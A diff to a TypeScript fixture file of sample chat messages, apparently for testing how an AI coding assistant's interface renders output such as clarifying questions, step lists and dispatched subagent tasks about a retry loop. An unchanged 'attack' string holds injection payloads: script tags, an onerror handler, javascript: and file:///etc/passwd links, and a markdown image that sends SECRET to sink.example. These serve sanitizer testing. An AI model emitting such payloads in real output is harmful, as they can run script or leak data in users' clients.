@@ -14,6 +14,16 @@ export const cutOff = "The first thing to look at is the connection: it is opene
 export const outOfSteps = "I've read three of eleven parts. So far nothing touches the retry loop; the remaining eight are still to be read.";
 export const chinese = "测试在 Windows 上失败，是因为路径分隔符不同：`src\\\\retry.rs` 与 `src/retry.rs` 被当成了两个文件。\n\n1. 比较之前先统一分隔符\n2. 盘符不区分大小写\n3. 为两种写法各加一个测试\n\n已经收到的内容会**保留**，不会重复。";
 export const attack = 'Here is a picture: <img src=x onerror="window.ran=true"> and ![x](https://sink.example/?d=SECRET), a [file](file:///etc/passwd), a [script](javascript:window.ran=true) and <iframe src="https://sink.example/"></iframe>.\n\n```mermaid\ngraph TD; A["<script>window.ran=true</script>"]-->B\n```\n\n<script>window.ran = true</script>\n';
+export const question = { question: "Which errors may be retried once the stream has begun?", options: ["None", "Only a lost connection", "All, but without the text that came"] };
+export const willAsk = "Before I change the loop I need to know what you want.";
+export const asked = "So be it: nothing is retried once text has arrived.";
+export const steps = ["Read the retry loop", "Write a test that cuts a stream", "Retry only before the first byte", "Run all tests", "更新更新日志"];
+export const willDispatch = "Two agents look side by side; I go on with what they find.";
+export const tasks = [
+  { task: "Where is a stream retried after it has begun?", answer: "In one place: `send()` in `src/retry.rs`, lines 40 to 61. The loop repeats on **any** error, also on those that come after the first chunk." },
+  { task: "Which tests cover the retry loop, and which cases do they leave out?", answer: "Three tests in `tests/retry.rs`: connect errors, a 503, a time-out. None cuts a stream that has begun." },
+] as const;
+export const dispatched = "The loop in `send()` is the only place, and no test cuts a stream that has begun. I'd begin with that test.";
 export const matches = "src/retry.rs:40: backoff(attempt)\nsrc/retry.rs:58: backoff(1)\nsrc/stream.rs:12: backoff(attempt)\n";
 export const testOutput = "\u001b[32m   Compiling\u001b[0m atlas v0.4.0\n\u001b[32m    Finished\u001b[0m test profile in 1.1s\n\u001b[1mrunning 14 tests\u001b[0m\ntest retry::opens ... \u001b[32mok\u001b[0m\ntest retry::keeps_what_arrived ... \u001b[32mok\u001b[0m\ntest result: \u001b[32mok\u001b[0m. 14 passed; 0 failed\n";
 
